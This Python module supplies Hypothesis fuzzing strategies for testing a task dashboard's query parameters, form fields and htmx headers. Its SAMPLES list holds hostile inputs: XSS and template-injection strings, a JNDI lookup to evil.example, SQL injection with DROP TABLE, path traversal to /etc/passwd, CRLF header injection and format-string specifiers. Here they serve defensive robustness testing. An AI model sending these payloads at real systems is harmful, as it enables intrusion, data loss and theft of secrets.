"""Hypothesis strategies for hostile input, and the suite's bounded, reproducible settings."""

from __future__ import annotations

import functools
import os
from datetime import UTC, datetime, timedelta
from typing import Any
from urllib.parse import quote

from hypothesis import HealthCheck, settings
from hypothesis import strategies as st

from tasks_app.deadline.ids import ID_PATTERNS
from tasks_app.deadline.types import TaskRunStatus
from tasks_app.selectors import browse
from tasks_app.selectors.usage.usage import GROUPS

#: Bounded and derandomized so CI runs the same examples every time; raise
#: DASHBOARD_FUZZ_EXAMPLES (and set DASHBOARD_FUZZ_RANDOM=1) to explore further locally.
FUZZ = settings(
    max_examples=int(os.environ.get("DASHBOARD_FUZZ_EXAMPLES", "30")),
    deadline=None,
    derandomize=os.environ.get("DASHBOARD_FUZZ_RANDOM", "") != "1",
    database=None,
    print_blob=True,
    suppress_health_check=[
        HealthCheck.function_scoped_fixture,  # the emulator and client are reused on purpose
        HealthCheck.too_slow,
        HealthCheck.data_too_large,
    ],
)

_HEX = "0123456789abcdef"
SAMPLES = [
    "",
    " ",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "javascript:alert(1)",
    "{{ request.user }}",
    "{% debug %}",
    "{{ settings.SECRET_KEY }}",
    "${jndi:ldap://evil.example/a}",
    "' OR '1'='1' --",
    "'; DROP TABLE auth_user; --",
    '" OR ""="',
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "%2e%2e%2f%2e%2e%2f",
    "..%2F..%2F",
    "%252e%252e%252f",
    "/",
    "//evil.example/",
    "https://evil.example/",
    "\x00",
    "a\x00b",
    "%00",
    "\r\nSet-Cookie: pwned=1",
    "\u202etxt.exe",
    "\ufeff",
    "\U0001f600\u200d\U0001f4bb",
    "-1",
    "0",
    "00",
    "1e309",
    "NaN",
    "99999999999999999999999",
    "%s%s%s%n",
    "farm-" + "A" * 32,
    "farm-" + "0" * 31,
    "job-" + "0" * 33,
    "task-" + "0" * 32 + "-01",
    "task-" + "0" * 32 + "-12345678901",
    "sessionaction-" + "0" * 32 + "-",
    " task-" + "0" * 32 + "-0",
    "step-" + "0" * 32 + "/../",
    # Times (usage and timeline windows): out of datetime's range, impossible, backwards.
    "0001-01-01T00:00Z",
    "0001-01-01T00:00:00-23:59",
    "9999-12-31T23:59:59.999999+23:59",
    "10000-01-01",
    "2026-02-30",
    "2026-11-20T25:00Z",
    "2026-11-20T10:00+99:00",
    "1970-01-01",
]


def recent_moments() -> list[str]:
    """ISO times a usage or timeline link would carry: recent, so windows are valid."""
    now = datetime.now(UTC).replace(second=0, microsecond=0)
    ago = (timedelta(days=2), timedelta(hours=3), timedelta(minutes=2), timedelta(days=120))
    return [(now - a).isoformat().replace("+00:00", "Z") for a in ago]


# Values a real form or link would send, so fuzzing also reaches the deep, valid paths.
PLAUSIBLE = [
    *(status.value for status in TaskRunStatus.known()),
    *browse.JOB_SORTS,
    *browse.TASK_SORTS,
    *browse.JOB_LIFECYCLE_STATUSES,
    "asc",
    "desc",
    "25",
    "50",
    "100",
    "1",
    "2",
    "400",
    "401",
    "Frame=1",
    "1042",
    *GROUPS,  # usage's group
    "7",
    "30",
    "90",
    "91",
    "worker",  # a task page's worker log panel
    "line",  # blockers' htmx parts
    "graph",
    "links",
    *recent_moments(),
]

#: Every query parameter and form field the dashboard reads (test_parameter_names_cover_*
#: fails when a page grows a field that is not listed here).
PARAMETERS = [
    "v",
    "attempt",
    "before",
    "after",
    "page",
    "per",
    "order",
    "sort",
    "status",
    "lifecycle",
    "name",
    "q",
    "next",
    "farm_id",
    "queue_id",
    "job_id",
    "step_id",
    "task_id",
    "job_filter",
    "task_search",
    "task_status",
    "shown",
    # failures views and the log line links they make
    "format",
    "window",
    "worker",
    "logs",
    "wait",
    "line",
    "at",
    "details",
    # The action forms and the audit's filters.
    "action",
    "run_status",
    "priority",
    "reason",
    "confirm",
    "intent",
    "farm",
    "job",
    "user",
    # Fleets and workers: the farm page's fleet summary, a task's worker log panel.
    "summary",
    "log",
    # Blockers: the htmx part of a job or step's "why is it waiting" page.
    "part",
    # Usage, budgets and a job's timeline: the window, the grouping, a queue's summary.
    "days",
    "start",
    "end",
    "group",
    "queue",
    # Home: the jobs behind one of the status board's counts.
    "show",
]


@functools.cache
def matching(regex: str) -> st.SearchStrategy[str]:
    """Strings that match ``regex`` whole (one strategy per pattern: hypothesis works each
    strategy's properties out once, and the tests draw from these in every example)."""
    return st.from_regex(regex, fullmatch=True)


@functools.cache
def near_miss_ids() -> st.SearchStrategy[str]:
    """Strings that look like IDs but break the pattern (case, length, index, prefix)."""
    return st.from_regex(
        r"(farm|queue|job|step|task|session|sessionaction|fleet|worker)-"
        r"[0-9a-fA-F]{30,34}(-[0-9]{0,12})?",
        fullmatch=True,
    )


@functools.cache
def valid_ids() -> st.SearchStrategy[str]:
    """Well-formed IDs of any kind that (almost surely) do not exist."""
    return st.sampled_from(sorted(ID_PATTERNS)).flatmap(lambda kind: matching(ID_PATTERNS[kind]))


@functools.cache
def hostile_text() -> st.SearchStrategy[str]:
    return st.one_of(
        st.sampled_from(SAMPLES),
        st.text(max_size=30),
        st.builds(
            lambda a, b, c: a + b + c,
            st.sampled_from(SAMPLES),
            st.text(max_size=8),
            st.sampled_from(SAMPLES),
        ),
        st.integers(min_value=200, max_value=6000).map(lambda n: ("<a\u00e9'%" * n)[:n]),
        near_miss_ids(),
    )


@functools.lru_cache(maxsize=16)
def parameter_values(real: tuple[str, ...]) -> st.SearchStrategy[str]:
    """Hostile text, plausible values and the demo world's real IDs (``real``)."""
    return st.one_of(
        hostile_text(),
        st.sampled_from(PLAUSIBLE),
        st.sampled_from(real),
        valid_ids(),
    )


@functools.lru_cache(maxsize=16)
def query_pairs(real: tuple[str, ...]) -> st.SearchStrategy[list[tuple[str, str]]]:
    """A query string as (name, value) pairs: known names (repeated sometimes) and others."""
    name = st.one_of(st.sampled_from(PARAMETERS), hostile_text())
    return st.lists(st.tuples(name, parameter_values(real)), max_size=6)


def path_segment(value: str, how: str) -> str:
    """``value`` as a path segment: percent-encoded (slashes too), raw slashes, or twice."""
    if how == "raw-slashes":
        return quote(value, safe="/")
    if how == "double":
        return quote(quote(value, safe=""), safe="")
    return quote(value, safe="")


ENCODINGS = st.sampled_from(["encoded", "encoded", "raw-slashes", "double"])


@functools.lru_cache(maxsize=16)
def htmx_headers(real_pages: tuple[str, ...]) -> st.SearchStrategy[dict[str, Any]]:
    """No htmx, or htmx headers as a page (or an attacker) would send them."""
    current = st.one_of(
        st.sampled_from(real_pages or ["/"]).map(lambda page: f"http://testserver{page}"),
        hostile_text(),
    )
    htmx = st.fixed_dictionaries(
        {"HX-Request": st.just("true")},
        optional={
            "HX-Trigger-Name": st.one_of(st.sampled_from(PARAMETERS), hostile_text()),
            "HX-Current-URL": current,
            "HX-Boosted": st.sampled_from(["true", "false"]),
            "HX-History-Restore-Request": st.just("true"),
            "HX-Target": hostile_text(),
        },
    )
    return st.one_of(st.just({}), htmx)
